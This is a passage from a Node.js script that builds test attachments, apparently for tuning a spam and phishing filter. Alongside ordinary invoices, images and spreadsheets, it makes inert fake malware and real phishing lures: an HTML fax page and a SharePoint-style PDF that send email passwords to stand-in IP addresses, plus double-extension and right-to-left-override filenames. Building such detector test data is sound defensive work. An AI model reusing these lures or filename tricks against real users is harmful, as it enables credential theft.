'use strict';
// Builds every binary attachment used by the tuning corpus, in memory.
//   node bench/corpus/tuned/tools/build-attachments.cjs [outdir]   (run from /work/main)
// With an outdir it also writes the files there for inspection.
// Nothing here is functional malware: "executables" are the two bytes MZ plus a
// DOS-stub string and zero padding; scripts are one-liners that print 1; Office
// macro files are ZIPs whose vbaProject.bin is a dummy OLE header plus padding.
const fs = require('fs');
const path = require('path');
const zlib = require('zlib');
const yazl = require('yazl');

// ---------- PDF ----------
function pdfEsc(s) {
  return s.replace(/([\\()])/g, '\\$1');
}
function makePdf({ title, lines, link, producer = 'Corpus PDF 1.0', date = '20250301120000' }) {
  let content = 'BT\n/F2 16 Tf\n50 790 Td\n(' + pdfEsc(title) + ') Tj\n/F1 10.5 Tf\n15 TL\n0 -12 Td\n';
  for (const l of lines) content += '(' + pdfEsc(l) + ") '\n";
  content += 'ET\n';
  if (link) {
    content += `0 0.2 0.7 rg\n50 ${link.y} 220 22 re f\nBT /F2 12 Tf 1 1 1 rg 60 ${link.y + 7} Td (${pdfEsc(link.label)}) Tj ET\n`;
  }
  const objs = [];
  objs.push('<< /Type /Catalog /Pages 2 0 R >>');
  objs.push('<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  objs.push(
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R /F2 5 0 R >> >> /Contents 6 0 R' +
      (link ? ' /Annots [8 0 R]' : '') +
      ' >>'
  );
  objs.push('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  objs.push('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold >>');
  objs.push(`<< /Length ${Buffer.byteLength(content)} >>\nstream\n${content}endstream`);
  objs.push(`<< /Title (${pdfEsc(title)}) /Producer (${pdfEsc(producer)}) /CreationDate (D:${date}) >>`);
  if (link) objs.push(`<< /Type /Annot /Subtype /Link /Rect [50 ${link.y} 270 ${link.y + 22}] /Border [0 0 0] /A << /S /URI /URI (${pdfEsc(link.uri)}) >> >>`);
  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets = [];
  objs.forEach((o, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) out += String(off).padStart(10, '0') + ' 00000 n \n';
  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R /Info 7 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

// ---------- PNG ----------
const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();
function crc32(buf) {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function chunk(type, data) {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}
function makePng(w, h, px) {
  const raw = Buffer.alloc((w * 3 + 1) * h);
  for (let y = 0; y < h; y++) {
    raw[y * (w * 3 + 1)] = 0;
    for (let x = 0; x < w; x++) {
      const [r, g, b] = px(x, y);
      const o = y * (w * 3 + 1) + 1 + x * 3;
      raw[o] = r;
      raw[o + 1] = g;
      raw[o + 2] = b;
    }
  }
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', zlib.deflateSync(raw)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
const hex = (h) => [parseInt(h.slice(1, 3), 16), parseInt(h.slice(3, 5), 16), parseInt(h.slice(5, 7), 16)];
function logoPng(bg, fg, w = 96, h = 32) {
  const B = hex(bg);
  const F = hex(fg);
  return makePng(w, h, (x, y) => {
    const cx = 16, cy = h / 2;
    if ((x - cx) ** 2 + (y - cy) ** 2 < 100) return F;
    if (x > 34 && x < w - 8 && y > h / 2 - 3 && y < h / 2 + 3) return F;
    return B;
  });
}
function barChartPng(values, color) {
  const w = 160, h = 90;
  const C = hex(color);
  const bw = Math.floor((w - 20) / values.length);
  return makePng(w, h, (x, y) => {
    if (y === h - 10 || x === 10) return [60, 60, 60];
    const i = Math.floor((x - 12) / bw);
    if (x > 12 && i < values.length && (x - 12) % bw < bw - 4) {
      const top = h - 10 - Math.round(values[i] * (h - 20));
      if (y >= top && y < h - 10) return C;
    }
    return [250, 250, 250];
  });
}
function screenshotPng() {
  return makePng(220, 130, (x, y) => {
    if (y < 14) return [40, 52, 72];
    if (x < 44) return [232, 236, 242];
    if (y > 30 && y < 38 && x > 54 && x < 200) return [210, 214, 220];
    if (y > 46 && y < 54 && x > 54 && x < 170) return [210, 214, 220];
    if (y > 70 && y < 90 && x > 54 && x < 120) return [34, 139, 230];
    if (y > 100 && y < 106 && x > 54 && x < 210 && (x >> 3) % 2) return [220, 80, 70];
    return [255, 255, 255];
  });
}
function bannerPng(c1, c2, w = 300, h = 180, stripes = 6) {
  const A = hex(c1);
  const Bc = hex(c2);
  return makePng(w, h, (x, y) => {
    if (y > h * 0.7 && y < h * 0.88 && x > w * 0.25 && x < w * 0.75) return [255, 215, 0];
    return Math.floor((x + y) / (w / stripes)) % 2 ? A : Bc;
  });
}
function photoPng(seed) {
  return makePng(120, 90, (x, y) => {
    const v = (Math.sin((x + seed) / 9) + Math.cos((y - seed) / 7)) * 40;
    return [Math.max(0, Math.min(255, 150 + v)), Math.max(0, Math.min(255, 120 + v / 2)), Math.max(0, Math.min(255, 90 - v))];
  });
}

// ---------- inert "dangerous" payloads ----------
function fakeExe(tag = '') {
  const stub = Buffer.from('MZ', 'ascii');
  const pad = Buffer.alloc(62);
  const msg = Buffer.from('This program cannot be run in DOS mode.\r\r\n$' + (tag ? ' corpus-' + tag : ''), 'ascii');
  return Buffer.concat([stub, pad, msg, Buffer.alloc(64)]);
}
function fakeOle(note) {
  const magic = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  return Buffer.concat([magic, Buffer.alloc(56), Buffer.from(note || '', 'ascii'), Buffer.alloc(384)]);
}
function fakeLnk() {
  const b = Buffer.alloc(76);
  b.writeUInt32LE(0x4c, 0);
  Buffer.from([0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46]).copy(b, 4);
  return Buffer.concat([b, Buffer.from('C:\\Windows\\System32\\cmd.exe /c echo 1\0', 'utf16le')]);
}
function fakeIso(volid) {
  const b = Buffer.alloc(0x8000 + 2048 * 2);
  const pvd = 0x8000;
  b[pvd] = 1;
  b.write('CD001', pvd + 1, 'ascii');
  b[pvd + 6] = 1;
  b.write('CORPUS'.padEnd(32, ' '), pvd + 8, 'ascii');
  b.write(volid.padEnd(32, ' '), pvd + 40, 'ascii');
  const term = pvd + 2048;
  b[term] = 255;
  b.write('CD001', term + 1, 'ascii');
  b[term + 6] = 1;
  return b;
}
function fakeClass() {
  return Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x34]), Buffer.alloc(40)]);
}

// ---------- ZIP via yazl ----------
function zip(entries, mtime = new Date('2025-06-01T10:00:00Z')) {
  return new Promise((resolve, reject) => {
    const z = new yazl.ZipFile();
    for (const [name, data] of entries) z.addBuffer(Buffer.isBuffer(data) ? data : Buffer.from(data, 'utf8'), name, { mtime });
    z.end();
    const bufs = [];
    z.outputStream.on('data', (d) => bufs.push(d));
    z.outputStream.on('end', () => resolve(Buffer.concat(bufs)));
    z.outputStream.on('error', reject);
  });
}
const CT_DOCX = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const CT_DOCM = CT_DOCX.replace('wordprocessingml.document.main+xml', 'ms-word.document.macroEnabled.main+xml').replace('<Default Extension="xml"', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"');
const CT_XLSM = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>`;
const CT_XLSX = CT_XLSM.replace('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>', '').replace('application/vnd.ms-excel.sheet.macroEnabled.main+xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml');
const RELS = (target) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/></Relationships>`;
const wordDoc = (paras) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paras.map((p) => `<w:p><w:r><w:t xml:space="preserve">${p}</w:t></w:r></w:p>`).join('')}</w:body></w:document>`;
const workbook = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets></workbook>`;

// ---------- catalogue ----------
const PDF_CT = 'application/pdf';
async function buildAll() {
  const A = {};
  const put = (key, filename, contentType, data) => (A[key] = { filename, contentType, data });

  // ---- ham PDFs ----
  const pdfs = [
    ['inv-cobalt', 'INV-2025-0412.pdf', 'Cobalt Hosting - Invoice INV-2025-0412', ['Cobalt Hosting Ltd, 4 Quay Street, Bristol BS1 4XX (fictional)', 'Bill to: Harrow & Finch Architects', 'Invoice date: 03 Apr 2025    Due: 17 Apr 2025', '', 'Managed VPS (2 vCPU / 4 GB), April 2025 ...... GBP 48.00', 'Daily off-site backups ....................... GBP 9.00', 'SSL certificate renewal ...................... GBP 0.00', 'Subtotal ..................................... GBP 57.00', 'VAT 20% ...................................... GBP 11.40', 'Total due .................................... GBP 68.40', '', 'Paid by card on file ending 4417. Thank you.']],
    ['inv-greenleaf', 'Greenleaf-Invoice-10387.pdf', 'Greenleaf Office Supplies - Invoice 10387', ['Greenleaf Office Supplies, 88 Market Row, Leeds (fictional)', 'Customer: Pinecrest Dental Group, account 20-4471', 'Order PO-8812 delivered 12 May 2025', '', '10 x A4 copier paper, 5 reams ............. GBP 189.50', '4 x Toner cartridge HL-220 ................ GBP 236.00', '2 x Ergonomic footrest .................... GBP 59.98', 'Net ......................................... GBP 485.48', 'VAT ......................................... GBP 97.10', 'Total ....................................... GBP 582.58', '', 'Terms: 30 days. Bank transfer to account shown on your statement.']],
    ['inv-brightline', 'BR-7781.pdf', 'Brightline Translation Services - Invoice BR-7781', ['Brightline Translation Services GmbH (fictional)', 'Client: Osterhagen Maschinenbau', 'Project: Operator manual DE>EN, 14,200 words', '', 'Translation ............................ EUR 1,704.00', 'Proofreading (second linguist) ......... EUR 426.00', 'Terminology list ....................... EUR 0.00', 'Total (reverse charge, no VAT) ......... EUR 2,130.00', '', 'Payable within 14 days. IBAN on file. Ref: BR-7781']],
    ['inv-orchard', 'orchard-analytics-2026-0093.pdf', 'Orchard Analytics - Invoice 2026-0093', ['Orchard Analytics Inc., 120 Pine St, Portland OR (fictional)', 'Customer: Lumen Fitness Studios', 'Billing period: 01 Feb 2026 - 28 Feb 2026', '', 'Growth plan, 5 seats ....................... USD 245.00', 'Additional dashboard exports (2) ........... USD 20.00', 'Total ...................................... USD 265.00', '', 'Charged to Visa ending 0921 on 01 Mar 2026.']],
    ['inv-tidewater', 'Tidewater_Invoice_4471.pdf', 'Tidewater Marine Parts - Invoice #4471', ['Tidewater Marine Parts, Dock 9, Savannah GA (fictional)', 'Ship to: Blue Heron Charters', '', 'Impeller kit, Yanmar 3YM ................. USD 86.40', 'Raw water pump gasket (x3) ............... USD 14.85', 'Zinc anode set ........................... USD 62.00', 'Freight .................................. USD 18.00', 'Total .................................... USD 181.25', '', 'Net 15. Questions: accounts@tidewater-marine.example']],
    ['inv-atelier', 'Faktura_F-2025-1209.pdf', 'Atelier Nord ApS - Invoice F-2025-1209', ['Atelier Nord ApS, Vesterbrogade 200, Copenhagen (fictional)', 'Client: Fjordline Outdoor AB', 'Brand refresh, phase 2 of 3', '', 'Logo system and guidelines ............. DKK 18,500.00', 'Packaging mock-ups (3 SKUs) ............ DKK 9,750.00', 'Total excl. VAT ........................ DKK 28,250.00', '', 'Due 30 Dec 2025. Reference F-2025-1209.']],
    ['inv-valley', 'ValleyCRM-VC-000318.pdf', 'Valley CRM - Invoice VC-000318', ['Valley CRM (fictional), billing@valley.example', 'Workspace: Carrow Industrial Supply', 'Plan: Team, 12 users, annual', '', 'Team plan, 12 users x 12 months ........ USD 3,456.00', 'Campaign add-on (25k contacts) ......... USD 600.00', 'Discount (annual prepay 10%) ........... USD -405.60', 'Total .................................. USD 3,650.40', '', 'Paid by ACH on 14 Jan 2026.']],
    ['inv-summit', 'Summit-Catering-55120.pdf', 'Summit Catering Co. - Invoice 55120', ['Summit Catering Co., 14 Ridge Road, Denver CO (fictional)', 'Event: Kestrel Biotech customer day, 22 Sep 2025', '', 'Lunch buffet, 80 guests ................ USD 2,240.00', 'Coffee service AM/PM ................... USD 360.00', 'Staff (4 x 6h) ......................... USD 672.00', 'Deposit received ....................... USD -1,000.00', 'Balance due ............................ USD 2,272.00']],
    ['quote-ridgeway', 'Ridgeway-Solar-Quote-Q-2025-118.pdf', 'Ridgeway Solar - Quotation Q-2025-118', ['Ridgeway Solar Installers (fictional)', 'Site: Holloway Farm Shop, rear barn roof', '', '24 x 430 W panels, black frame .......... GBP 5,760.00', 'Hybrid inverter 8 kW ................... GBP 1,450.00', 'Battery 10 kWh ......................... GBP 4,200.00', 'Scaffolding and installation ........... GBP 2,100.00', 'Total (0% VAT on energy-saving materials) GBP 13,510.00', '', 'Quote valid for 30 days. Installation lead time 5-6 weeks.']],
    ['proposal-meridian', 'Meridian_CRM_Migration_Proposal_v2.pdf', 'Meridian Consulting - CRM Migration Proposal (v2)', ['Prepared for: Halvorsen Freight AS', 'Scope: migrate 48k contacts, 6 pipelines and 3 years of activity history', '', 'Phase 1 Discovery and data audit ....... 6 days', 'Phase 2 Mapping and test migration ..... 8 days', 'Phase 3 Cut-over and training .......... 4 days', 'Fixed fee .............................. EUR 21,600', '', 'Assumptions: read access to the legacy database; one admin on your side.']],
    ['quote-fernwood', 'Fernwood-Print-Estimate-2291.pdf', 'Fernwood Print - Estimate 2291', ['Fernwood Print & Finishing (fictional)', 'Job: trade show brochure, A5, 16pp, 2,500 copies', '', 'Paper: 170gsm silk text, 300gsm cover', 'Print: 4/4 CMYK, matt laminate cover', 'Price ................................. GBP 1,395.00', 'Proof: PDF proof within 24h of artwork', '', 'Delivery: 5 working days from proof approval.']],
    ['sow-copperleaf', 'SOW_Copperleaf_Q3.pdf', 'Copperleaf Digital - Statement of Work', ['Client: Anvil & Oak Furniture', 'Period: July - September 2025', '', '1. Paid search management (up to USD 8k media/month)', '2. Monthly landing page test (3 total)', '3. Reporting call every second Tuesday', 'Monthly retainer ...................... USD 3,200', '', 'Either party may end with 30 days notice.']],
    ['guide-stackwise', 'Stackwise-Getting-Started.pdf', 'Stackwise - Getting Started Guide', ['Welcome to Stackwise inventory.', '1. Import your product list (CSV template on page 2)', '2. Connect your first warehouse location', '3. Invite teammates and set roles', '4. Turn on low-stock alerts', '', 'Help centre: https://help.stackwise.example']],
    ['slip-harbor', 'PackingSlip-HB-55821.pdf', 'Harbor Books - Packing Slip HB-55821', ['Order HB-55821, shipped 07 Nov 2025', '1 x "Negotiating Without Tears", paperback', '2 x "The Field Sales Handbook", hardcover', '1 x Bookmark set (gift)', '', 'Returns accepted within 30 days with this slip.']],
    ['pricelist-kiln', 'Kiln-and-Clay-Trade-Prices-2026.pdf', 'Kiln & Clay Supply - Trade Price List 2026', ['Effective 1 March 2026', 'Stoneware clay 12.5kg ........ GBP 14.20 (was 13.10)', 'Porcelain clay 10kg .......... GBP 21.90 (was 20.40)', 'Clear glaze 5kg .............. GBP 38.00 (unchanged)', 'Kiln shelf 40x30 ............. GBP 46.50 (was 42.00)', '', 'Orders placed before 28 Feb are honoured at current prices.']],
    ['agenda-webinar', 'Webinar-Agenda-Cold-Chain.pdf', 'Webinar agenda - Cold chain compliance 2026', ['Thursday 19 March 2026, 15:00-16:00 CET', '15:00 Welcome and housekeeping', '15:05 What changes in the 2026 temperature logging rules', '15:25 Case study: a 40-truck fleet', '15:45 Q&A', '', 'Hosted by Polar Route Telematics (fictional)']],
    ['report-q3', 'Q3-2025-sales-summary.pdf', 'Q3 2025 sales summary (internal)', ['Bookings: 1.42M (plan 1.35M)', 'New logos: 37', 'Churned: 4', 'Average deal size: 38.4k', 'Top region: DACH', '', 'Internal only.']],
  ];
  for (const [key, fn, title, lines] of pdfs) put(key, fn, PDF_CT, makePdf({ title, lines }));

  // ---- ham images ----
  put('logo-juniper', 'juniper-logo.png', 'image/png', logoPng('#ffffff', '#2e7d32'));
  put('logo-fathom', 'fathom.png', 'image/png', logoPng('#0b2545', '#8da9c4'));
  put('logo-bramble', 'bramble-coffee.png', 'image/png', logoPng('#fff8ee', '#6d3b1f'));
  put('logo-northstar', 'northstar.png', 'image/png', logoPng('#ffffff', '#c62828', 120, 36));
  put('chart-pipeline', 'pipeline-by-stage.png', 'image/png', barChartPng([0.9, 0.7, 0.45, 0.3, 0.12], '#3f51b5'));
  put('chart-tickets', 'ticket-volume-week.png', 'image/png', barChartPng([0.4, 0.55, 0.8, 0.6, 0.5, 0.2, 0.1], '#00897b'));
  put('screenshot-import', 'import-settings.png', 'image/png', screenshotPng());
  put('photo-product', 'new-grinder.png', 'image/png', photoPng(3));
  put('photo-booth', 'booth-photo.png', 'image/png', photoPng(17));
  put('pixel', 'p.png', 'image/png', makePng(1, 1, () => [255, 255, 255]));

  // ---- ham CSV / other ----
  put('csv-leads', 'leads-export-2025-05-20.csv', 'text/csv', 'first_name,last_name,company,email,stage,owner\nPriya,Raman,Solvent Labs,priya.raman@solvent-labs.example,Qualified,jmorris\nTomas,Lindqvist,Norrsken AB,tomas@norrsken.example,Proposal,jmorris\nAisha,Bello,Kora Foods,aisha.bello@korafoods.example,New,kchen\nGreg,Oduya,Redwater Pumps,g.oduya@redwater.example,Negotiation,kchen\n');
  put('csv-pricelist', 'price-changes-2026.csv', 'text/csv', 'sku,description,old_price_usd,new_price_usd,effective\nFB-100,Fiber tape 50m,12.40,13.10,2026-04-01\nFB-220,Splice closure,48.00,51.50,2026-04-01\nFB-310,Patch panel 24p,96.00,96.00,2026-04-01\nFB-402,Pigtail LC 1m (10 pack),19.90,21.20,2026-04-01\n');
  put('csv-attendees', 'expo-booth-scans.csv', 'text/csv', 'scanned_at,name,company,interest\n2025-10-08 10:14,Lena Hoffmann,Auerbach Kliniken,Scheduling\n2025-10-08 10:32,Marco Ricci,Ricci Trasporti,Fleet\n2025-10-08 11:05,Sanne de Vries,Groenveld BV,Pricing\n2025-10-08 13:47,Oliver Grant,Grant & Co,Integration\n');
  put('csv-manifest', 'manifest-PO-30418.csv', 'text/csv', 'line,sku,qty,carton\n1,VLV-3/4-BR,120,1-4\n2,VLV-1-BR,80,5-7\n3,GSK-KIT-22,40,8\n');
  put('ics-demo', 'invite.ics', 'text/calendar', ics('demo-7781@calendar.lattice.example', '20250617T140000Z', '20250617T143000Z', 'Lattice HR demo - Pinecrest Dental', 'Video call: https://meet.lattice-hr.example/j/4410927', 'ana.sousa@lattice-hr.example', 'r.kaur@pinecrestdental.example'));
  put('ics-review', 'invite.ics', 'text/calendar', ics('qbr-2025q4-1188@cal.fathom-data.example', '20251204T090000Z', '20251204T100000Z', 'Quarterly business review - Fathom Data / Carrow', 'Carrow HQ, meeting room 2', 'nate.oyelaran@fathom-data.example', 'm.greer@carrow-supply.example'));
  put('ics-site', 'site-visit.ics', 'text/calendar', ics('sitevisit-20260212@ridgeway-solar.example', '20260212T100000Z', '20260212T113000Z', 'Roof survey - Holloway Farm Shop', 'Holloway Farm Shop, Lower Lane (fictional)', 'tom.beckett@ridgeway-solar.example', 'jenny@hollowayfarm.example'));
  put('zip-q3', 'Q3-2025-reporting-pack.zip', 'application/zip', await zip([
    ['Q3-2025-sales-summary.pdf', A['report-q3'].data],
    ['q3-bookings-by-region.csv', 'region,bookings\nDACH,412000\nNordics,288000\nUK&I,351000\nBenelux,199000\nSouthern Europe,170000\n'],
  ]));
  put('docx-nda', 'Mutual_NDA_Draft_v3.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', await zip([
    ['[Content_Types].xml', CT_DOCX],
    ['_rels/.rels', RELS('word/document.xml')],
    ['word/document.xml', wordDoc(['MUTUAL NON-DISCLOSURE AGREEMENT (DRAFT v3)', 'Between Quillfield Software Ltd and Osterhagen Maschinenbau GmbH (both fictional).', '1. Confidential Information means ...', '2. Term: two (2) years from the Effective Date.'])],
  ]));
  put('xlsx-rates', 'freight-rates-2026.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', await zip([
    ['[Content_Types].xml', CT_XLSX],
    ['_rels/.rels', RELS('xl/workbook.xml')],
    ['xl/workbook.xml', workbook],
  ]));

  // ---- spam / malware-like (inert) ----
  put('exe-double', 'invoice.pdf.exe', 'application/octet-stream', fakeExe('double'));
  put('js-payment', 'Payment_Advice_0391.js', 'application/javascript', 'WScript.Echo(1);\r\n');
  put('vbs-order', 'Order_Details_PO77412.vbs', 'text/vbscript', 'WScript.Echo 1\r\n');
  put('scr-photos', 'photo_album_2025.scr', 'application/octet-stream', fakeExe('scr'));
  put('bat-update', 'security_update.bat', 'application/x-bat', '@echo off\r\necho 1\r\n');
  put('cmd-mailbox', 'fix_mailbox_quota.cmd', 'application/octet-stream', '@echo 1\r\n');
  put('jar-remit', 'Remittance_Advice.jar', 'application/java-archive', await zip([
    ['META-INF/MANIFEST.MF', 'Manifest-Version: 1.0\r\nMain-Class: Remit\r\n\r\n'],
    ['Remit.class', fakeClass()],
  ]));
  put('iso-ship', 'Shipment_Documents_2025.iso', 'application/x-iso9660-image', fakeIso('SHIPMENT_DOCS'));
  put('lnk-contract', 'Contract_Scan.pdf.lnk', 'application/octet-stream', fakeLnk());
  put('msi-teams', 'TeamsMeetingUpdate.msi', 'application/x-msi', fakeOle('msi'));
  put('ps1-statement', 'Statement_March.ps1', 'application/octet-stream', 'Write-Output 1\r\n');
  put('hta-voicemail', 'Voicemail_0047.hta', 'application/hta', '<html><head><title>Voicemail</title></head><body><script>document.write(1)</script></body></html>\r\n');
  put('zip-js', 'Invoice_88213.zip', 'application/zip', await zip([['Invoice_88213.js', 'WScript.Echo(1);\r\n']]));
  put('zip-exe', 'DHL_AWB_7730215.zip', 'application/zip', await zip([['DHL_AWB_Document_7730215.exe', fakeExe('zip')]]));
  const inner = await zip([['Scan_0042.pdf.exe', fakeExe('nested')], ['readme.txt', 'see document']]);
  put('zip-nested', 'Documents.zip', 'application/zip', await zip([['Docs_Signed.zip', inner]]));
  put('docm-po', 'Purchase_Order_2026-114.docm', 'application/vnd.ms-word.document.macroEnabled.12', await zip([
    ['[Content_Types].xml', CT_DOCM],
    ['_rels/.rels', RELS('word/document.xml')],
    ['word/document.xml', wordDoc(['This document is protected.', 'Click "Enable Content" to view the purchase order.'])],
    ['word/vbaProject.bin', fakeOle('Attribute VB_Name = "ThisDocument"')],
  ]));
  put('xlsm-salary', 'Salary_Adjustments_2026.xlsm', 'application/vnd.ms-excel.sheet.macroEnabled.12', await zip([
    ['[Content_Types].xml', CT_XLSM],
    ['_rels/.rels', RELS('xl/workbook.xml')],
    ['xl/workbook.xml', workbook],
    ['xl/vbaProject.bin', fakeOle('Attribute VB_Name = "Module1"')],
  ]));
  put('pdf-is-mz', 'report.pdf', 'application/pdf', fakeExe('mismatch'));
  put('png-is-mz', 'IMG_20250611.png', 'image/png', fakeExe('png'));
  put('exe-rtlo', 'Invoice_2025_\u202Efdp.exe', 'application/octet-stream', fakeExe('rtlo'));
  put('html-fax', 'Fax_Message_3pages.html', 'text/html', '<!DOCTYPE html><html><head><title>eFax Viewer</title></head><body style="font-family:Arial"><h3>You have a secure fax (3 pages)</h3><p>Sign in with your email account to view the document.</p><form action="http://198.51.100.23/fax/view.php" method="post"><input name="email" placeholder="Email"><br><input name="pass" type="password" placeholder="Password"><br><button>View Fax</button></form></body></html>\r\n');
  put('pdf-phish', 'Secure_Document_Review.pdf', 'application/pdf', makePdf({ title: 'Secure document shared with you', lines: ['A document has been shared with you via SharePoint.', 'File: Q1_Payment_Schedule.xlsx (2 pages)', '', 'Click below to open the document in your browser.'], link: { y: 640, label: 'OPEN DOCUMENT', uri: 'http://203.0.113.77/sp/login.php?id=44812' }, producer: 'Microsoft Word' }));
  put('img-casino', 'bonus.png', 'image/png', bannerPng('#7b1fa2', '#311b92'));
  put('img-diet', 'slim.png', 'image/png', bannerPng('#43a047', '#c0ca33', 280, 240, 4));
  put('img-watch', 'w.png', 'image/png', bannerPng('#212121', '#616161', 320, 200, 10));
  put('img-stock', 'alert.png', 'image/png', bannerPng('#d32f2f', '#ffffff', 300, 150, 12));
  await buildMore(A, put);
  return A;
}

// ---------- QR codes (real, decodable; they encode reserved hosts / documentation IPs) ----------
function qrPng(text, scale = 4, margin = 4) {
  const QR = require('qrcode');
  const q = QR.create(text, { errorCorrectionLevel: 'M' });
  const n = q.modules.size;
  const w = (n + margin * 2) * scale;
  return makePng(w, w, (x, y) => {
    const c = Math.floor(x / scale) - margin;
    const r = Math.floor(y / scale) - margin;
    if (c < 0 || r < 0 || c >= n || r >= n) return [255, 255, 255];
    return q.modules.get(r, c) ? [0, 0, 0] : [255, 255, 255];
  });
}
// RAR signature plus padding only (no entries).
function fakeRar(note) {
  return Buffer.concat([Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x00]), Buffer.alloc(25), Buffer.from(note || '', 'ascii'), Buffer.alloc(128)]);
}
// Tiny valid WAV (0.25 s of silence, 8 kHz mono 8-bit).
function silentWav() {
  const n = 2000;
  const b = Buffer.alloc(44 + n, 0x80);
  b.write('RIFF', 0, 'ascii');
  b.writeUInt32LE(36 + n, 4);
  b.write('WAVEfmt ', 8, 'ascii');
  b.writeUInt32LE(16, 16);
  b.writeUInt16LE(1, 20);
  b.writeUInt16LE(1, 22);
  b.writeUInt32LE(8000, 24);
  b.writeUInt32LE(8000, 28);
  b.writeUInt16LE(1, 32);
  b.writeUInt16LE(8, 34);
  b.write('data', 36, 'ascii');
  b.writeUInt32LE(n, 40);
  return b;
}
const loginPage = ({ title, brand, color, action, note, extra = '' }) =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body style="font-family:Segoe UI,Arial,sans-serif;background:#f3f3f3"><div style="max-width:380px;margin:60px auto;background:#fff;padding:32px;border-top:4px solid ${color}"><h2 style="margin-top:0;color:${color}">${brand}</h2><p>${note}</p><form action="${action}" method="post"><input name="login" placeholder="Email address" style="width:100%;padding:8px;margin:6px 0"><input name="passwd" type="password" placeholder="Password" style="width:100%;padding:8px;margin:6px 0">${extra}<button style="background:${color};color:#fff;border:0;padding:10px 24px">Sign in</button></form></div></body></html>\r\n`;

// Attachments for the second batch of messages (data/ham-08.. and data/spam-05..).
async function buildMore(A, put) {
  // ---- ham PDFs ----
  const pdfs = [
    ['inv-ferramenta', 'Fattura_2026-0147.pdf', 'Ferramenta Galli Srl - Fattura 2026/0147', ['Ferramenta Galli Srl, Via dei Mille 18, Bergamo (fictional)', 'Cliente: Ricci Trasporti SpA', 'Data: 09/02/2026    Scadenza: 11/03/2026', '', 'Catene di ancoraggio 10 mm (x20) ........ EUR 412,00', 'Cricchetti tendicinghia (x40) ............ EUR 358,00', 'Imponibile ............................... EUR 770,00', 'IVA 22% .................................. EUR 169,40', 'Totale ................................... EUR 939,40', '', 'Bonifico bancario: IBAN invariato, vedi ordine.']],
